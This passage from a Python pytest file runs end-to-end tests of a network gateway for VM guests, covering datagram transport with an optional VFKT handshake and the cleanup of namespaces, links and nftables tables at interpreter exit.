    cleanup_stale(home)


@pytest.mark.parametrize("vfkit", [False, True])
def test_datagram_vmm_transport(tmp_path: Path, host_service: int, vfkit: bool) -> None:
    """One frame per datagram (QEMU dgram / libkrun unixgram), optional VFKT handshake."""
    require_root()
    plan = AddressPlan(3203)
    with uplink_and_topology("gw-e2e-dgram", plan, tmp_path, "d", upstream=False, mode="dgram",
                             vfkit=vfkit, host_loopback=True) as (uplink, topo):
        assert topo.vmm_socket is not None
        with Gateway(NetworkPolicy.from_profiles("host"), uplink=uplink,
                     guest_fd=topo.vmm_socket.fileno(), transport="dgram",
                     dns_upstreams=["192.0.2.53"]) as gw:
            r = topo.run_in_guest(["curl", "-sS", "--max-time", "8",
                                   f"http://{plan.gateway_ipv4}:{host_service}/"], timeout=20)
            assert r.returncode == 0 and r.stdout == "hello from the host loopback\n", r.stderr
            assert gw.stats()["verdicts"]["allow"] > 0


_EXIT_SCRIPT = r"""
import socket, sys
from netstack import NetworkPolicy
from netstack.gateway import AddressPlan, Gateway, TapUplink
up = TapUplink("gw-e2e-exit", AddressPlan(3204), home=sys.argv[1], vnet_hdr=True)
a, b = socket.socketpair()
gw = Gateway(NetworkPolicy.public_only(), uplink=up, guest_socket=a, dns_upstreams=["192.0.2.53"])
b.sendall(b"\0\0\0\x3c" + bytes(60))   # some traffic in flight
print("up", flush=True)
# no close(): interpreter exit must stop the loop and remove everything
"""


def test_gateway_is_closed_at_interpreter_exit(tmp_path: Path) -> None:
    require_root()
    token = uplink_names("gw-e2e-exit")["token"]   # only this uplink's objects: other
    r = subprocess.run([sys.executable, "-c", _EXIT_SCRIPT, str(tmp_path / "home")],  # processes
                       capture_output=True, text=True, timeout=30, check=False,  # may run theirs
                       cwd=Path(__file__).resolve().parents[2])
    assert r.returncode == 0 and r.stdout == "up\n", r.stderr[-2000:]
    left = {kind: {n for n in names if token in n} for kind, names in snapshot().ours().items()}
    assert left == {"netns": set(), "links": set(), "nft_tables": set()}
